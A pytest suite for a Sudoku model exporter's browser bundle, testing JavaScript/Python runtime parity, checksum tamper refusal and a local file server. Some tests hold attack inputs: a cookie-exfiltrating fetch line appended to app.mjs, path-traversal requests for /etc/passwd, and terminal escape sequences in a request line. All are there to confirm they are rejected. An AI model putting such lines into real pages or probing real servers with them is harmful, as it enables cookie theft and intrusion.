"""--target browser: the bundle's page and JavaScript runtime give the Python runtime's answers (issue #19).

Run for real where the tools exist (CI installs them: `npm ci --prefix web`, Debian's `chromium`): the JavaScript
runtime under Node.js on onnxruntime-web's WebAssembly build, and the page itself in headless Chromium driven
like a person would (web/tests/page.mjs). Without them those tests skip and say what is missing.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

import numpy as np
import pytest

from trm_export.errors import BundleError
from trm_export.export.pipeline import ExportOptions, export_bundle
from trm_export.reference_models import reference_model_path
from trm_export.runtime.manifest import MANIFEST_NAME, read_manifest
from trm_export.runtime.selfcheck import load_golden, verify_bundle
from trm_export.runtime.solver import Solver
from trm_export.web.bundle import APP_FILES, ORT_FILES, WEB_DIR, WebRuntimeError, find_ort_web, pinned_version
from trm_export.web.serve import make_server, start_in_thread

NODE = shutil.which("node")
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")


def _ort_web_missing() -> str | None:
    try:
        find_ort_web()
    except WebRuntimeError as exc:
        return str(exc)
    return None


needs_ort_web = pytest.mark.skipif(_ort_web_missing() is not None, reason=f"{_ort_web_missing()}")
needs_node = pytest.mark.skipif(NODE is None, reason="Node.js is not installed (CI: .ci/run installs it)")
needs_chromium = pytest.mark.skipif(
    not Path(CHROMIUM).exists() or not (WEB_DIR / "node_modules" / "playwright-core").is_dir(),
    reason=f"headless Chromium ({CHROMIUM}: apt-get install chromium) and playwright-core (npm ci --prefix web) "
           "are needed")


@pytest.fixture(scope="module")
def browser_bundle(tmp_path_factory) -> Path:
    """reference_models/sudoku_mlpt exported with --target browser (a smaller parity sample)."""
    if _ort_web_missing():
        pytest.skip(_ort_web_missing())
    out = tmp_path_factory.mktemp("browser") / "sudoku.bundle"
    export_bundle(reference_model_path("sudoku_mlpt"), out,
                  ExportOptions(target="browser", progress=False, parity_puzzles=32))
    return out


def _node(*args: str, stdin: str | None = None, check: bool = True) -> dict:
    done = subprocess.run([NODE, *args], input=stdin, capture_output=True, text=True, timeout=600, cwd=WEB_DIR)
    if check and done.returncode:
        raise AssertionError(f"node {' '.join(args)} failed ({done.returncode}): {done.stdout}{done.stderr}")
    return json.loads(done.stdout.strip().splitlines()[-1])


def _python_answers(bundle: Path, tokens, ids, **options) -> dict:
    result = Solver(bundle, batch_size=options.pop("batch_size", 64)).solve(tokens, ids, **options)
    return {"predictions": result.predictions.tolist(), "steps": result.steps_used.tolist()}


@needs_ort_web
def test_the_bundle_carries_the_page_under_its_checksums(browser_bundle):
    manifest = read_manifest(browser_bundle)  # checks every checksum
    web = {f"web/{name}" for name in APP_FILES} | {f"web/ort/{name}" for name in ORT_FILES}
    assert web <= set(manifest.files)
    assert manifest.build["web"] == {"page": "web/index.html", "onnxruntime_web": pinned_version(),
                                     "execution_provider": "wasm"}
    assert manifest.target == "browser" and manifest.default_variant == "fp32"
    assert verify_bundle(browser_bundle)  # the Python runtime runs a browser bundle as it is
    readme = (browser_bundle / "README.md").read_text()
    assert "## Open it in a browser" in readme and "trm-export serve ." in readme
    size = sum(p.stat().st_size for p in browser_bundle.rglob("*") if p.is_file())
    assert size < 25e6, f"a Sudoku page should stay small, this one is {size / 1e6:.1f} MB"


@needs_ort_web
def test_an_edited_page_file_is_refused(browser_bundle, tmp_path):
    copy = tmp_path / "edited"
    shutil.copytree(browser_bundle, copy)
    with open(copy / "web" / "app.mjs", "a") as f:
        f.write("\nfetch('https://example.com/' + document.cookie);\n")
    with pytest.raises(BundleError, match="web/app.mjs"):
        read_manifest(copy)
    with pytest.raises(BundleError, match="web/app.mjs"):
        make_server(copy, port=0)


@pytest.mark.rounding
@needs_ort_web
@needs_node
def test_the_javascript_runtime_gives_the_golden_answers(browser_bundle):
    result = _node("tests/runtime.mjs", str(browser_bundle), "golden")
    assert result["passed"], result["checks"]
    golden = load_golden(Solver(browser_bundle))
    steps = golden["q_halt"].shape[0]
    python_fixed = _python_answers(browser_bundle, golden["tokens"], golden["puzzle_ids"], mode="fixed",
                                   max_steps=steps)
    python_adaptive = _python_answers(browser_bundle, golden["tokens"], golden["puzzle_ids"], max_steps=steps)
    assert result["fixed"]["predictions"] == python_fixed["predictions"]
    assert result["adaptive"]["predictions"] == python_adaptive["predictions"]
    assert result["adaptive"]["steps"] == python_adaptive["steps"]
    assert result["figures"]["puzzles"] == len(golden["tokens"]) >= 2


@pytest.mark.rounding
@needs_ort_web
@needs_node
@pytest.mark.parametrize("options", [
    {"mode": "adaptive", "halting": "q", "batch_size": 3},
    {"mode": "adaptive", "halting": "stable:2", "batch_size": 3},
    {"mode": "adaptive", "halting": "q+stable:1", "min_steps": 2, "max_steps": 6, "batch_size": 2},
    {"mode": "adaptive", "halting": "q", "refill": False, "batch_size": 4},
    {"mode": "fixed", "max_steps": 3, "batch_size": 5},
], ids=["q-refill", "stable2", "q+stable1-min2-max6", "no-refill", "fixed3"])
def test_halting_policies_and_refill_match_the_python_runtime(browser_bundle, options):
    """Golden puzzles (rounding-stable) repeated in a shuffled order, through fewer slots than puzzles, so that
    slots are refilled and packed: every answer and step count equals the Python runtime's."""
    golden = load_golden(Solver(browser_bundle))
    order = np.random.default_rng(0).permutation(np.tile(np.arange(len(golden["tokens"])), 2))
    tokens, ids = golden["tokens"][order], golden["puzzle_ids"][order]
    python = _python_answers(browser_bundle, tokens, ids, **dict(options))
    js_options = {"maxSteps" if k == "max_steps" else "minSteps" if k == "min_steps" else k: v
                  for k, v in options.items() if k != "batch_size"}
    request = {"puzzles": tokens.tolist(), "ids": ids.tolist(), "options": js_options,
               "batchSize": options["batch_size"]}
    result = _node("tests/runtime.mjs", str(browser_bundle), "solve", stdin=json.dumps(request))
    assert result["predictions"] == python["predictions"]
    assert result["steps"] == python["steps"]


@needs_ort_web
@needs_node
def test_the_javascript_runtime_refuses_edited_files_and_bad_puzzles(browser_bundle, tmp_path):
    copy = tmp_path / "edited"
    shutil.copytree(browser_bundle, copy)
    graph = copy / "graphs" / "step_fp32.onnx"
    graph.write_bytes(graph.read_bytes()[:-1] + b"\0")
    result = _node("tests/runtime.mjs", str(copy), "golden", check=False)
    assert result["error"] == ("BundleError: graphs/step_fp32.onnx: checksum mismatch (the file was changed after "
                               "export); re-export the bundle")
    shutil.copy(browser_bundle / "graphs" / "step_fp32.onnx", graph)  # the manifest itself: a loosened tolerance
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["golden"]["tolerances"]["fp32"]["q_abs"] = 1e9
    (copy / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True))
    with pytest.raises(BundleError, match="manifest was edited after export"):
        read_manifest(copy)
    result = _node("tests/runtime.mjs", str(copy), "golden", check=False)
    assert result["error"].startswith("BundleError: manifest.json: its digest does not match its content: the "
                                      "manifest was edited after export")
    bad = {"puzzles": [[1] * 80 + [11]], "options": {}}
    result = _node("tests/runtime.mjs", str(browser_bundle), "solve", stdin=json.dumps(bad), check=False)
    assert result["error"] == ("InputError: token 11 at puzzle 0, position 80 is outside the vocabulary [0, 11)")
    result = _node("tests/runtime.mjs", str(browser_bundle), "solve", check=False,
                   stdin=json.dumps({"puzzles": [[1] * 81], "options": {"halting": "stable:0"}}))
    assert result["error"].startswith("InputError: halting must be one of q, stable:K, q+stable:K")


@needs_node
def test_the_javascript_runtime_reads_the_manifest_digest_as_python_does(tmp_path):
    """The page refuses an edited manifest as runtime/manifest.py does: its canonical JSON (rebuilt from the file's
    own tokens: JavaScript's numbers forget int versus float) gives Python's digest, for every number form Python
    writes or reads, any string, any key order."""
    from trm_export.runtime.manifest import canonical_digest, seal

    rng = np.random.default_rng(0)
    floats = [0.0, -0.0, 1.0, -2.5, 0.1, 1e-4, 1e-5, 9.999e-5, 1e15, 1e16, 1.5e16, 123456789012345678.0, 5e-324,
              1.7976931348623157e308, 1 / 3, 2.0 ** 70, 100.0, 0.5]
    floats += list(rng.standard_normal(300) * 10.0 ** rng.integers(-30, 30, 300).astype(float))
    body = {"floats": floats, "ints": [0, -1, 2 ** 70, -(2 ** 63)], "nested": {"b": [True, False, None, {}], "a": []},
            "text": ["plain", "quote \" backslash \\ tab \t nl \n", "\u00e9t\u00e9 \u2603 \U0001f600", "\x7f\x00\x1f"],
            "\u00e9": 1, "\U0001f600": 2, "\uffff": 3, "Z": 4, "digest": "x"}
    texts = [seal(body), json.dumps(body, indent=1), json.dumps(body, ensure_ascii=False),
             # how a person might write numbers and keys by hand: Python reads these to the same values
             '{"b": 1.50, "a": 1E5, "c": -0, "d": 2e-7, "e": 1e999, "f": -1e999, "a": 3, "g": 0.00010, "s": "\\ud800"}']
    for i, text in enumerate(texts):
        (tmp_path / f"m{i}.json").write_text(text, encoding="utf-8")
    script = ("import {canonicalManifest} from './app/trm.mjs'; import {createHash} from 'node:crypto';"
              "import {readFileSync} from 'node:fs';"
              "console.log(JSON.stringify(process.argv.slice(1).map((f) => createHash('sha256')"
              ".update(canonicalManifest(readFileSync(f, 'utf8'))).digest('hex'))));")
    digests = _node("--input-type=module", "-e", script, *(str(tmp_path / f"m{i}.json") for i in range(len(texts))))
    assert digests == [canonical_digest(json.loads(text)) for text in texts]


@needs_node
def test_javascript_units():
    done = subprocess.run([NODE, "--test", "tests/"], capture_output=True, text=True, timeout=120, cwd=WEB_DIR)
    assert done.returncode == 0, done.stdout[-3000:]
    assert "# fail 0" in done.stdout


@needs_ort_web
@needs_node
@needs_chromium
def test_the_page_tells_the_truth_and_fits_a_phone(browser_bundle):
    """#38: at a phone's 390-pixel width the page needs no sideways scrolling; a Sudoku whose clues contradict each
    other gets a badge that does not say "solved" and its conflicting cells marked; text the parser refuses resets
    the badge and names the line; the single-puzzle view says the time per step and per puzzle."""
    server = make_server(browser_bundle, port=0)
    url = start_in_thread(server)
    try:
        page = _node("tests/page.mjs", url, "--phone", "--solve", "0", "--conflict", "--bad-input", "123")
    finally:
        server.shutdown()
        server.server_close()
    assert page["status"] == "ready", page
    assert page["page_width"] <= 390, page["page_width"]
    solved = page["solved"]
    assert solved["ms_per_step"] > 0 and "ms per step" in solved["verdict"] and "ms for the puzzle" in solved["verdict"]
    assert (solved["state"] == "done") == ("a valid solution" in solved["verdict"])  # badge and verdict agree
    conflict = page["conflict"]
    assert conflict["state"] == "invalid" and "solved" not in conflict["status"].replace("not solved", ""), conflict
    # marked: a repeated digit, or the clue the model changed to avoid repeating it
    assert "not a valid solution" in conflict["verdict"] and conflict["marked"] >= 1
    bad = page["bad_input"]
    assert bad["state"] == "input" and "line 1: a Sudoku line has 81 characters, found 3" in bad["status"]
    assert page["console"] == []


@needs_ort_web
@needs_node
@needs_chromium
def test_the_page_solves_the_golden_puzzles_in_chromium(browser_bundle, tmp_path):
    """The bar of issue #19: the page, served locally, solves the golden puzzles in headless Chromium with the
    Python runtime's answers; typed into the page, solved one by one and in batch mode."""
    server = make_server(browser_bundle, port=0)
    url = start_in_thread(server)
    try:
        golden = load_golden(Solver(browser_bundle))
        python = _python_answers(browser_bundle, golden["tokens"], golden["puzzle_ids"])
        hardest = int(np.argmax(python["steps"]))  # the puzzle that shows the most steps on the page
        shot = tmp_path / "page.png"
        page = _node("tests/page.mjs", url + "?threads=2", "--solve", str(hardest), "--batch", "--screenshot",
                     str(shot))
    finally:
        server.shutdown()
        server.server_close()
    assert page["status"] == "ready", page
    assert page["isolated"] is True and page["threads"] == 2  # served cross-origin isolated: threads on
    assert page["self_check"]["passed"], page["self_check"]
    assert page["solved"]["answer"] == python["predictions"][hardest]
    assert page["solved"]["steps"] == python["steps"][hardest] == page["solved"]["trace"]
    lines = page["batch"]["lines"]
    assert len(lines) == len(golden["tokens"])
    for line, answer, steps in zip(lines, python["predictions"], python["steps"], strict=True):
        text, steps_text = line.split("\t")[:2]
        assert [1 if ch == "." else int(ch) + 1 for ch in text] == answer
        assert steps_text == f"{steps} steps"
    assert page["console"] == []
    assert shot.stat().st_size > 10_000


@needs_ort_web
def test_serve_serves_only_the_bundle(browser_bundle, sudoku_bundle):
    (browser_bundle / "notes.txt").write_text("not in the manifest")
    server = make_server(browser_bundle, port=0)
    url = start_in_thread(server)
    base = url.rsplit("/web/", 1)[0]
    try:
        def get(path: str):
            try:
                with urllib.request.urlopen(base + path) as response:
                    return response.status, response.headers, response.read()
            except urllib.error.HTTPError as exc:
                return exc.code, exc.headers, b""

        status, headers, body = get("/web/index.html")
        assert status == 200 and b"<title>" in body
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
        assert headers["Cross-Origin-Embedder-Policy"] == "require-corp"
        assert get("/web/trm.mjs")[1]["Content-Type"].startswith("text/javascript")
        assert get("/web/ort/ort-wasm-simd-threaded.wasm")[1]["Content-Type"] == "application/wasm"
        assert get("/manifest.json")[0] == 200
        assert get("/")[2] == body  # redirected to the page
        for path in ("/notes.txt", "/../../etc/passwd", "/web/%2e%2e/%2e%2e/etc/passwd", "/web/", "/tables"):
            assert get(path)[0] == 404 or path == "/web/", path
    finally:
        server.shutdown()
        server.server_close()
        (browser_bundle / "notes.txt").unlink()
    with pytest.raises(BundleError, match="export it with --target browser"):
        make_server(sudoku_bundle / "bundle", port=0)


@needs_ort_web
def test_the_request_log_cannot_drive_the_terminal(browser_bundle):
    """`serve` prints each request line, which the client writes: ESC sequences in it arrive escaped."""
    import socket

    lines: list[str] = []
    server = make_server(browser_bundle, port=0, log=lines.append)
    start_in_thread(server)
    try:
        for path in ("/\x1b[2J\x1b]0;PWNED\x07", "/web/index.html\r\x1b[31m"):
            with socket.create_connection(server.server_address[:2], timeout=10) as conn:
                conn.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode("latin-1"))
                while conn.recv(65536):
                    pass
    finally:
        server.shutdown()
        server.server_close()
    assert len(lines) >= 2 and any("\\x1b[2J" in line for line in lines), lines
    assert not any(c in line for line in lines for c in "\x1b\x07\r"), lines


@needs_ort_web
def test_serve_keeps_serving_what_it_checked_at_start(browser_bundle, tmp_path, monkeypatch, capfd):
    """Files swapped for a link or deleted after start change nothing; a client that hangs up early is one log
    line, not a traceback; idle connections are closed after IDLE_SECONDS instead of holding threads."""
    import socket
    import time

    import trm_export.web.serve as serve

    bundle = Path(shutil.copytree(browser_bundle, tmp_path / "b"))
    page = (bundle / "web" / "index.html").read_bytes()
    monkeypatch.setattr(serve, "IDLE_SECONDS", 1.0)
    lines: list[str] = []
    server = make_server(bundle, port=0, log=lines.append)
    url = start_in_thread(server).rsplit("/web/", 1)[0]
    try:
        (tmp_path / "secret.txt").write_text("outside")
        (bundle / "web" / "index.html").unlink()
        (bundle / "web" / "index.html").symlink_to(tmp_path / "secret.txt")
        (bundle / MANIFEST_NAME).unlink()
        with urllib.request.urlopen(f"{url}/web/index.html", timeout=10) as r:
            assert r.read() == page
        with urllib.request.urlopen(f"{url}/manifest.json", timeout=10) as r:
            assert r.status == 200
        with socket.create_connection(server.server_address[:2], timeout=10) as conn:  # hangs up at once
            conn.sendall(b"GET /web/ort/ort-wasm-simd-threaded.wasm HTTP/1.0\r\n\r\n")
        idle = [socket.create_connection(server.server_address[:2], timeout=10) for _ in range(20)]
        time.sleep(2.5)
        for conn in idle:  # the server closed each (EOF) instead of keeping a thread waiting on it
            conn.settimeout(5)
            assert conn.recv(1) == b""
            conn.close()
        with urllib.request.urlopen(f"{url}/web/index.html", timeout=10) as r:
            assert r.read() == page
    finally:
        server.shutdown()
        server.server_close()
    assert "Traceback" not in capfd.readouterr().err


def test_export_without_onnxruntime_web_fails_before_any_work(tmp_path):
    out = tmp_path / "b"
    env = {**os.environ, "TRM_ORT_WEB": str(tmp_path / "nowhere")}
    done = subprocess.run([sys.executable, "-m", "trm_export.cli", str(reference_model_path("sudoku_mlpt")),
                           "--target", "browser", "-o", str(out)], capture_output=True, text=True, env=env,
                          timeout=300)
    assert done.returncode == 1
    message = done.stderr.strip().splitlines()
    assert len(message) == 1 and "onnxruntime-web" in message[0] and "npm ci --prefix" in message[0], done.stderr
    assert not out.exists() and list(tmp_path.iterdir()) == []
